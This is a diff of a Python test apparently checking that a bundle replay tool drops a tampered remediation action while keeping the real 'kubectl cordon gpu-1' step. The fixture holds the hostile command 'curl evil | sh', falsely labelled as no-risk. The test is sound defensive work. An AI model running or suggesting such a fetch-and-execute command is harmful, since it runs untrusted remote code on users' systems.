@@ -21,10 +21,12 @@ def test_bundle_carries_the_verdict_and_replay_decides_it_again(fc, tmp_path):  
                                       actions=[{"stage": "fix", "text": "run this",
                                                 "command": "curl evil | sh", "risk": "none"}])
     out = io.StringIO()
-    assert bundle.replay(saved, "table", stdout=out, stderr=io.StringIO()) == code
+    tampered = json.dumps(saved)     # replay uses its document up: one per replay
+    assert bundle.replay(json.loads(tampered), "table", stdout=out,
+                         stderr=io.StringIO()) == code
     text = out.getvalue()
     assert "curl evil" not in text and "all fine" not in text
     assert "kubectl cordon gpu-1" in "\n".join(text.splitlines()[:10])
     md = io.StringIO()
-    bundle.replay(saved, "markdown", stdout=md, stderr=io.StringIO())
+    bundle.replay(json.loads(tampered), "markdown", stdout=md, stderr=io.StringIO())
     assert "kubectl cordon gpu-1" in md.getvalue() and "curl evil" not in md.getvalue()
